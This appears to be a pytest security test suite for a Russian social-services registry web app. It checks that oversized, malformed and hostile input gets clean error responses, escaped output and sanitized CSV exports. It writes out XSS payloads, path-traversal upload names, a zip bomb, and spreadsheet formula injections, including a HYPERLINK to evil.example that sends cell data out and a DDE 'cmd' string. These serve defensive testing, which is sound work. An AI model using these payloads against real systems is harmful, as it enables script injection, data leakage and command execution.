"""Hostile input on every form, upload and API parameter: each gets a specific answer (status and error code),
never a 500, a stack trace or a hang; what people type is shown escaped on every page; exports cannot smuggle
spreadsheet formulas.

Covered: bodies over MAX_CONTENT_LENGTH (413), JSON nested 100,000 deep and malformed JSON, invalid UTF-8 and
NUL bytes in query strings, forms and JSON, 100 kB strings in every parameter of the API, the public pages and
the consoles, HTML and script in every text field of an organization (public page, search results, dispatch
referral, curate editor, list and history), path tricks in upload file names, a zip bomb in XLSX, and formula
injection in the dispatch gaps CSV and the registry CSV export."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from resourcemap.auth.accounts import issue_token
from resourcemap.auth.policy import viewer_of
from resourcemap.registry import edit
from tests.conftest import ACCOUNT_TABLES, REGISTRY_TABLES
from tests.staff import ACCOUNTS, client_as, create_staff, page_token
from tests.staff import form_token as token_of_form

SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
PAYLOAD = f'{SCRIPT}{IMG}&"\''
ESCAPED_SCRIPT = "&lt;script&gt;alert("
BIG = 11 * 1024 * 1024  # over MAX_CONTENT_LENGTH (10 MB)
LONG = "я" * 100_000  # 100 kB strings (200 kB of UTF-8)
DEEP = "[" * 100_000 + "]" * 100_000


@pytest.fixture(scope="module")
def world(app, engine):
    """An admin (with an API token) and a dispatcher; one published organization in Moscow oblast whose every
    text field holds HTML and script."""
    with Session(engine) as session:
        accounts = create_staff(session)
        _, token = issue_token(session, accounts["admin"], "hostile")
        session.commit()
        actor = viewer_of(accounts["admin"])
        org_id = edit.create_document(session, {
            "name": f"Организация {PAYLOAD}", "legal_form": f"АНО {PAYLOAD}", "description": f"Описание {PAYLOAD}",
            "website": "https://example.org/\"><script>alert(3)</script>", "email": "", "source": PAYLOAD,
            "status": "published",
            "locations": [{"name": f"Отделение {PAYLOAD}", "address": f"ул. {PAYLOAD}, 1", "lat": 55.7847,
                           "lon": 38.4447, "accessibility": f"Пандус {PAYLOAD}", "confidential": False}],
            "services": [{"type": "early_help", "name": f"Служба {PAYLOAD}", "description": f"Что {PAYLOAD}",
                          "eligibility": f"Кому {PAYLOAD}", "delivery": "on_site", "location": 0,
                          "schedule": [{"weekday": 1, "opens": "09:00", "closes": "18:00"}]}],
            "phones": [{"number": "+7 495 555-00-01", "kind": "main", "note": f"Звонить {PAYLOAD}", "location": 0}],
        }, actor, change_note=f"Заметка {PAYLOAD}")
        session.commit()
        ids = session.execute(text(
            "SELECT sal.id AS sal, l.settlement_id AS settlement FROM service_at_location sal"
            " JOIN location l ON l.id = sal.location_id WHERE l.organization_id = :o"), {"o": org_id}).mappings().one()
    yield {"org": org_id, "token": token, **ids}
    with engine.begin() as conn:
        conn.execute(text(f"TRUNCATE {REGISTRY_TABLES}, {ACCOUNT_TABLES}, request_log_kind, request_log"
                          " RESTART IDENTITY CASCADE"))
        conn.execute(text("DELETE FROM change WHERE organization_id = :o"), {"o": org_id})


def console_token(client) -> str:
    return page_token(client.get("/dispatch").get_data(as_text=True))


def form_token(client, path: str) -> str:
    return token_of_form(client.get(path).get_data(as_text=True))


def assert_api_error(response, status: int, code: str, field: str | None = "ANY"):
    body = response.get_data(as_text=True)
    assert response.status_code == status, body[:500]
    assert response.mimetype == "application/json", body[:300]
    error = response.json["error"]
    assert error["code"] == code, body[:500]
    assert error["message"]
    if field != "ANY":
        assert error["field"] == field, body[:500]
    assert "Traceback" not in body


def assert_page(response, status: int, *words: str):
    body = response.get_data(as_text=True)
    assert response.status_code == status, body[:500]
    assert response.mimetype == "text/html"
    assert "Traceback" not in body and 'File "' not in body
    for word in words:
        assert word in body, f"{word!r} not on the page"


# --- huge bodies ---------------------------------------------------------------------------------------------
def test_a_body_over_the_limit_is_refused_with_413(app, world):
    admin_api = {"Authorization": f"Bearer {world['token']}"}
    client = app.test_client()
    response = client.post("/api/v1/registry/organizations", data=b'{"name": "' + b"a" * BIG + b'"}',
                           headers=admin_api, content_type="application/json")
    assert_api_error(response, 413, "too_large")
    response = client.put(f"/api/v1/registry/organizations/{world['org']}", data=b"x" * BIG, headers=admin_api,
                          content_type="application/json")
    assert_api_error(response, 413, "too_large")

    dispatcher = client_as(app, "dispatcher")
    response = dispatcher.post("/dispatch/api/search", data=b"[" + b"1," * (BIG // 2) + b"1]",
                               headers={"X-CSRFToken": console_token(dispatcher)}, content_type="application/json")
    assert_api_error(response, 413, "too_large")

    response = app.test_client().post("/signin", data={"email": "a@b.c", "password": "x" * BIG})
    assert_page(response, 413, "Ошибка 413")

    admin = client_as(app, "admin")
    response = admin.post("/curate/import", data={
        "csrf_token": form_token(admin, "/curate/import"), "region": "RU-MOS",
        "file": (io.BytesIO(b"a;b\n" * (BIG // 4)), "big.csv")}, content_type="multipart/form-data")
    assert_page(response, 413, "Ошибка 413")


# --- deep and malformed JSON -----------------------------------------------------------------------------------
MALFORMED = [
    ("deep arrays", DEEP.encode()),
    ("deep objects", ('{"a":' * 50_000 + "1" + "}" * 50_000).encode()),
    ("truncated", b'{"name": "x", "locations": ['),
    ("not JSON", b"name=x&status=published"),
    ("invalid UTF-8", b'{"name": "\xff\xfe\xc3\x28"}'),
    ("NaN", b'{"name": NaN}'),
    ("a 100,000-digit number", b'{"name": "x", "version": ' + b"9" * 100_000 + b"}"),
]


@pytest.mark.parametrize("what, body", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_json_to_the_staff_api_is_a_400(app, world, what, body):
    headers = {"Authorization": f"Bearer {world['token']}"}
    client = app.test_client()
    response = client.post("/api/v1/registry/organizations", data=body, headers=headers,
                           content_type="application/json")
    assert_api_error(response, 400, "invalid")
    response = client.put(f"/api/v1/registry/organizations/{world['org']}", data=body, headers=headers,
                          content_type="application/json")
    assert_api_error(response, 400, "invalid")


@pytest.mark.parametrize("what, body", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_json_to_the_dispatch_console_is_a_400(app, world, what, body):
    client = client_as(app, "dispatcher")
    response = client.post("/dispatch/api/search", data=body, headers={"X-CSRFToken": console_token(client)},
                           content_type="application/json")
    assert_api_error(response, 400, "invalid")


def test_json_of_the_wrong_shape_is_refused_with_the_field_named(app, world):
    headers = {"Authorization": f"Bearer {world['token']}"}
    client = app.test_client()
    for body, status in (([1, 2, 3], 400), ("a string", 400), ({"name": ["not", "text"]}, 400),
                         ({"name": "x", "locations": "nowhere"}, 400), ({"name": "x", "locations": [[]]}, 400)):
        response = client.post("/api/v1/registry/organizations", json=body, headers=headers)
        assert_api_error(response, status, "invalid")
    response = client.put(f"/api/v1/registry/organizations/{world['org']}", json={"name": "x"}, headers=headers)
    assert_api_error(response, 400, "invalid", "version")
    # An empty body is an empty document: every missing field is named.
    response = client.post("/api/v1/registry/organizations", data=b"", headers=headers,
                           content_type="application/json")
    assert_api_error(response, 422, "invalid", "name")
    assert {p["field"] for p in response.json["error"]["problems"]} >= {"name", "locations"}


# --- NUL bytes and invalid UTF-8 -------------------------------------------------------------------------------
def test_nul_bytes_and_invalid_utf8_in_query_strings(app, world):
    client = app.test_client()
    # Invalid UTF-8 is decoded with replacement characters: a search that finds nothing, not an error.
    response = client.get(b"/api/v1/settlements?q=%FF%FE%C3%28".decode())
    assert response.status_code == 200 and response.json["results"] == []
    assert_api_error(client.get("/api/v1/settlements?q=%00"), 400, "invalid", "q")
    assert_api_error(client.get("/api/v1/settlements?q=Mos%00cow"), 400, "invalid", "q")
    assert_api_error(client.get("/api/v1/nearest?lat=55&lon=37&service=early_help%00"), 400, "invalid", "service")
    assert_api_error(client.get("/api/v1/organizations?region=RU-MOS%00"), 400, "invalid", "region")
    assert_api_error(client.get("/api/v1/nearest?lat=55%00&lon=37&service=early_help"), 400, "invalid", "lat")
    assert_page(client.get("/?q=%00%FF"), 400)
    assert_page(client.get("/?settlement=1%00"), 400)
    assert client.get("/map-data/locations?bbox=%00").status_code == 400
    admin = client_as(app, "admin")
    assert_page(admin.get("/curate?q=%00abc"), 400, "недопустимые символы")
    dispatcher = client_as(app, "dispatcher")
    # Refused by the database layer, which does not know the parameter's name.
    assert_api_error(dispatcher.get("/dispatch/api/settlements?q=%00"), 400, "invalid", None)
    assert_page(dispatcher.get("/dispatch/gaps?region=%00&service=%00"), 200)


def test_nul_bytes_in_json_and_forms(app, world):
    headers = {"Authorization": f"Bearer {world['token']}"}
    client = app.test_client()
    doc = {"name": "Имя\u0000с нулём", "status": "draft",
           "locations": [{"name": "x", "address": "y", "lat": 55.78, "lon": 38.44}],
           "services": [{"type": "early_help", "delivery": "on_site", "location": 0}], "phones": []}
    response = client.post("/api/v1/registry/organizations", json=doc, headers=headers)
    assert_api_error(response, 422, "invalid", "name")
    response = app.test_client().post("/signin", data={"email": "a\x00@b.c", "password": "p\x00",
                                                       "csrf_token": form_token(app.test_client(), "/signin")})
    assert response.status_code in (200, 400)  # refused as a bad form either way; never stored, never a 500
    dispatcher = client_as(app, "dispatcher")
    response = dispatcher.post("/dispatch/api/search", json={"kinds": ["early_help\u0000"], "lat": 55.7, "lon": 37.6},
                               headers={"X-CSRFToken": console_token(dispatcher)})
    assert_api_error(response, 400, "unknown_service", "kinds")
    response = dispatcher.post("/dispatch/api/search", json={"kinds": ["early_help"], "call": "x\u0000y",
                                                             "lat": 55.7, "lon": 37.6},
                               headers={"X-CSRFToken": console_token(dispatcher)})
    assert response.status_code == 200 or response.json["error"]["code"] == "invalid"


# --- 100 kB strings in every parameter -----------------------------------------------------------------------
def _api_parameters(app) -> list[tuple[str, str]]:
    spec = app.test_client().get("/api/v1/openapi.json").json
    return [(path, p["name"]) for path, ops in spec["paths"].items() for method, op in ops.items()
            if method == "get" for p in op.get("parameters", []) if p["in"] == "query"]


def test_a_100_kb_string_in_every_api_parameter_is_a_400_naming_it(app, world):
    headers = {"Authorization": f"Bearer {world['token']}"}
    client = app.test_client()
    params = _api_parameters(app)
    assert len(params) >= 20
    for path, name in params:
        url = path.replace("{org_id}", str(world["org"]))
        base = {"/api/v1/nearest": {"lat": "55.7", "lon": "37.6", "service": "early_help"},
                "/api/v1/settlements": {"q": "Москва"}, "/api/v1/coverage": {"service": "early_help"}}.get(path, {})
        if name in ("lat", "lon") and path == "/api/v1/nearest":
            base = {"lat": "55.7", "lon": "37.6", "service": "early_help"}
        query = {**base, name: LONG}
        response = client.get(url, query_string=query, headers=headers)
        assert response.status_code == 400, f"{path}?{name}=<100 kB>: {response.status_code}"
        error = response.json["error"]
        assert error["code"] in ("invalid", "unknown_service", "unknown_region", "unknown_condition",
                                 "unknown_cost"), (path, name, error)
        assert error["field"] == name, (path, name, error)
    assert_api_error(client.get("/api/v1/organizations/" + "9" * 100_000), 404, "not_found")


def test_digits_that_int_cannot_read_are_a_clear_error(app, world):
    """str.isdigit() is true for '²' and for 100,000 digits, which int() refuses: each answers a 400/404."""
    client = app.test_client()
    for raw in ("²", "٣" * 11, "9" * 5000):
        assert_page(client.get(f"/org/{raw}"), 404)
        assert_page(client.get("/", query_string={"settlement": raw}), 400)
        assert_page(client.get("/", query_string={"q": "Москва", "age_months": raw}), 400)
    dispatcher = client_as(app, "dispatcher")
    assert_api_error(dispatcher.get("/dispatch/api/referral", query_string={"sal": "²", "origin": "55,37"}), 400,
                     "invalid", "sal")
    assert_api_error(dispatcher.get("/dispatch/api/referral", query_string={"settlement": "²", "sal": world["sal"]}),
                     400, "invalid", "settlement")
    assert_page(dispatcher.get("/dispatch/gaps", query_string={"km": "²", "days": "²"}), 200)
    admin = client_as(app, "admin")
    assert_page(admin.get("/curate", query_string={"page": "²", "q": "²"}), 200)


PAGE_PARAMETERS = [
    ("/", {"q": LONG}, 404), ("/", {"settlement": "9" * 100_000}, 400), ("/", {"lat": LONG, "lon": LONG}, 400),
    ("/", {"q": "Москва", "service": LONG}, 400), ("/", {"q": "Москва", "age_months": LONG}, 400),
    ("/", {"lang": LONG}, 200), ("/org/" + "9" * 100_000, {}, 404), ("/org/1", {"back": LONG}, 200),
    ("/signin", {"next": LONG}, 200),
]


@pytest.mark.parametrize("path, query, status", PAGE_PARAMETERS,
                         ids=[f"{p[:12]} {list(q)}" for p, q, _ in PAGE_PARAMETERS])
def test_a_100_kb_string_in_every_page_parameter(app, world, path, query, status):
    path = path.replace("/org/1", f"/org/{world['org']}")
    response = app.test_client().get(path, query_string=query)
    assert_page(response, status)
    assert LONG[:1000] not in response.get_data(as_text=True)  # never echoed back whole


def test_a_100_kb_string_in_the_map_and_console_parameters(app, world):
    client = app.test_client()
    response = client.get("/map-data/locations", query_string={"bbox": LONG})
    assert response.status_code == 400 and response.json["error"]["code"] == "invalid"
    response = client.get("/map-data/locations", query_string={"bbox": "37,55,38,56", "service": LONG})
    assert response.status_code == 400 and response.json["error"]["code"] == "invalid"
    dispatcher = client_as(app, "dispatcher")
    response = dispatcher.get("/dispatch/api/settlements", query_string={"q": LONG})
    assert response.status_code == 200 and isinstance(response.json["results"], list)  # the first 100 letters
    assert_api_error(dispatcher.get("/dispatch/api/referral", query_string={"sal": LONG, "origin": "55,37"}), 400,
                     "invalid", "sal")
    assert_api_error(dispatcher.get("/dispatch/api/referral", query_string={"sal": world["sal"], "origin": LONG}),
                     400, "invalid", "origin")
    for query in ({"km": LONG}, {"days": LONG}, {"region": LONG}, {"service": LONG}):
        assert_page(dispatcher.get("/dispatch/gaps", query_string=query), 200)
        assert dispatcher.get("/dispatch/gaps.csv", query_string=query).status_code == 200
    token = console_token(dispatcher)
    for body, field in (({"kinds": [LONG]}, "kinds"), ({"kinds": ["early_help"], "age_months": LONG}, "age_months"),
                        ({"kinds": ["early_help"], "origin": LONG}, "origin"),
                        ({"kinds": ["early_help"], "settlement": LONG}, "settlement")):
        response = dispatcher.post("/dispatch/api/search", json=body, headers={"X-CSRFToken": token})
        assert_api_error(response, 400, response.json["error"]["code"], field)
    response = dispatcher.post("/dispatch/api/search", json={"kinds": ["early_help"], "lat": 55.7, "lon": 37.6,
                                                             "call": LONG}, headers={"X-CSRFToken": token})
    assert response.status_code == 200  # the call id is cut to 64 characters, not refused


def test_a_100_kb_string_in_the_sign_in_and_curate_forms(app, world):
    client = app.test_client()
    response = client.post("/signin", data={"email": LONG, "password": LONG,
                                            "csrf_token": form_token(client, "/signin")})
    assert_page(response, 401)  # the form again, with its message; nothing signed in
    assert client.get("/account").status_code == 302
    admin = client_as(app, "admin")
    response = admin.get("/curate", query_string={"q": LONG})
    assert_page(response, 200)
    token = form_token(admin, f"/curate/org/{world['org']}")
    response = admin.post(f"/curate/org/{world['org']}", data={"csrf_token": token, "name": LONG, "action": "save"})
    assert_page(response, 422)
    assert "Название" in response.get_data(as_text=True)


# --- HTML and script in every text field ---------------------------------------------------------------------
def _escaped(body: str) -> None:
    assert SCRIPT not in body and "<img src=x" not in body and "<script>alert(3)" not in body
    assert ESCAPED_SCRIPT in body  # the field was shown, escaped


def test_html_in_every_text_field_is_escaped_on_every_page(app, world):
    client = app.test_client()
    org = world["org"]
    pages = {"public organization page": client.get(f"/org/{org}"),
             "public search results": client.get(f"/?settlement={world['settlement']}&service=early_help"),
             "public search by point": client.get("/?lat=55.78&lon=38.44&service=early_help")}
    dispatcher = client_as(app, "dispatcher")
    pages["dispatch referral card"] = dispatcher.get(f"/dispatch/referral?sal={world['sal']}&origin=55.78,38.44")
    admin = client_as(app, "admin")
    pages["curate editor"] = admin.get(f"/curate/org/{org}")
    pages["curate list"] = admin.get("/curate?q=Организация")
    pages["curate history"] = admin.get(f"/curate/org/{org}/history")
    for name, response in pages.items():
        assert response.status_code == 200, name
        body = response.get_data(as_text=True)
        try:
            _escaped(body)
        except AssertionError:
            raise AssertionError(f"{name}: unescaped or missing HTML payload") from None
    # Every text field reaches the organization page escaped (not only the name).
    body = pages["public organization page"].get_data(as_text=True)
    for label in ("Организация", "Описание", "Отделение", "ул.", "Пандус", "Служба", "Что", "Кому", "Звонить"):
        assert f"{label} &lt;script&gt;" in body or f"{label}&nbsp;&lt;script&gt;" in body, label
    assert '"><script>alert(3)' not in body


def test_json_answers_carrying_html_are_json_not_html(app, world):
    client = app.test_client()
    for path in (f"/api/v1/organizations/{world['org']}", "/api/v1/nearest?lat=55.78&lon=38.44&service=early_help",
                 "/map-data/locations?bbox=38,55,39,56"):
        response = client.get(path)
        assert response.status_code == 200
        assert response.mimetype in ("application/json", "application/geo+json")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert SCRIPT in response.get_data(as_text=True) or "\\u003cscript" in response.get_data(as_text=True) \
            or "<script>" in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/?q={p}", "/signin?next={p}", "/curate?q={p}", "/dispatch/gaps?region={p}",
                                  "/org/{p}", "/?settlement=1&service={p}"])
def test_reflected_input_is_escaped(app, world, path):
    client = client_as(app, "admin")
    response = client.get(path.format(p=SCRIPT.replace("'", "%27")))
    body = response.get_data(as_text=True)
    assert response.status_code in (200, 400, 404)
    assert SCRIPT not in body


# --- uploads: path tricks, a zip bomb ------------------------------------------------------------------------
def _import(client, filename: str, data: bytes):
    return client.post("/curate/import", data={"csrf_token": form_token(client, "/curate/import"), "region": "RU-MOS",
                                               "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


@pytest.mark.parametrize("filename", ["../../../../tmp/resourcemap-evil.csv", "/etc/cron.d/evil.csv",
                                      "..\\..\\evil.csv", "evil\x00.csv", f"{SCRIPT}.csv", "a" * 5000 + ".csv"])
def test_upload_file_names_cannot_reach_outside_the_upload_folder(app, world, filename, tmp_path):
    admin = client_as(app, "admin")
    uploads = Path(app.config["VAR_DIR"]) / "curate-imports"
    before = set(uploads.glob("*")) if uploads.exists() else set()
    csv = ("external_id;name;address;lat;lon;service_type;phone\n"
           f"hostile-1;Организация {SCRIPT};ул. Тестовая, 1;55.7847;38.4447;early_help;+74955550002\n").encode()
    response = _import(admin, filename, csv)
    body = response.get_data(as_text=True)
    assert response.status_code in (200, 422), body[:500]
    assert "Traceback" not in body and SCRIPT not in body
    assert not Path("/tmp/resourcemap-evil.csv").exists() and not Path("/etc/cron.d/evil.csv").exists()
    new = set(uploads.glob("*")) - before if uploads.exists() else set()
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{32,64}\.(data|json)", p.name) for p in new), new
    for p in new:
        p.unlink()


def test_a_zip_bomb_in_xlsx_is_refused_before_it_is_unpacked(app, world):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/worksheets/sheet1.xml", b"<" + b"a" * (200 * 1024 * 1024) + b">")
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024  # 200 MB of XML in under 1 MB
    response = _import(client_as(app, "admin"), "bomb.xlsx", data)
    assert_page(response, 422, "Файл не прочитан")


# --- formula injection in exports ----------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _csv_cells(body: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=_delimiter(body)) for cell in row]


def _delimiter(body: str) -> str:
    first = body.lstrip("\ufeff").splitlines()[0]
    return ";" if first.count(";") > first.count(",") else ","


def test_the_gaps_csv_does_not_carry_formulas(app, world, engine):
    """Place names come from gazetteers anyone can edit upstream: a settlement and district named like formulas."""
    with engine.begin() as conn:
        place = conn.execute(text(
            "SELECT s.id, s.name_ru, d.id, d.name_ru FROM settlement s JOIN district d ON d.id = s.district_id"
            " WHERE s.region_code = 'RU-SMO' ORDER BY s.id LIMIT 1")).one()
        conn.execute(text("UPDATE settlement SET name_ru = :n WHERE id = :i"), {"n": FORMULAS[0], "i": place[0]})
        conn.execute(text("UPDATE district SET name_ru = :n WHERE id = :i"), {"n": FORMULAS[1], "i": place[2]})
    try:
        dispatcher = client_as(app, "dispatcher")
        response = dispatcher.post("/dispatch/api/search", json={"kinds": ["palliative_care"], "settlement": place[0]},
                                   headers={"X-CSRFToken": console_token(dispatcher)})
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        response = dispatcher.get("/dispatch/gaps.csv?km=30&days=all&region=RU-SMO")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        cells = _csv_cells(response.get_data(as_text=True))
        assert "'" + FORMULAS[1] in cells
        assert any(c.startswith("'" + FORMULAS[0]) for c in cells)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    finally:
        with engine.begin() as conn:
            conn.execute(text("UPDATE settlement SET name_ru = :n WHERE id = :i"), {"n": place[1], "i": place[0]})
            conn.execute(text("UPDATE district SET name_ru = :n WHERE id = :i"), {"n": place[3], "i": place[2]})


def test_the_registry_export_does_not_carry_formulas(app, world, engine):
    admin = client_as(app, "admin")
    from resourcemap.models import Account

    with Session(engine) as session:

        account = session.query(Account).filter_by(email=ACCOUNTS["admin"][0]).one()
        actor = viewer_of(account)
        doc = edit.organization_document(session, world["org"])
        created = edit.create_document(session, {
            **{k: v for k, v in doc.items() if k not in ("id", "version")},
            "name": FORMULAS[0], "description": FORMULAS[3], "external_id": "formula-1",
            "locations": [{**doc["locations"][0], "id": None, "address": FORMULAS[2]}],
            "services": [{**doc["services"][0], "id": None, "name": FORMULAS[1]}],
            "phones": [{**doc["phones"][0], "id": None, "note": FORMULAS[1]}]}, actor)
        session.commit()
    response = admin.get("/curate/export?format=csv&region=RU-MOS")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    cells = _csv_cells(response.get_data(as_text=True))
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
    # Only numbers and phone numbers may start with + or - (curate-io's rule); nothing may start with = or @.
    risky = [c for c in cells if c.startswith(("=", "@"))
             or (c.startswith(("+", "-")) and not re.fullmatch(r"[+-]?[0-9][0-9 ().\-]*", c))]
    assert risky == []
    with Session(engine) as session:
        edit.set_status(session, created, "inactive", edit.organization_document(session, created)["version"], actor)
        session.commit()
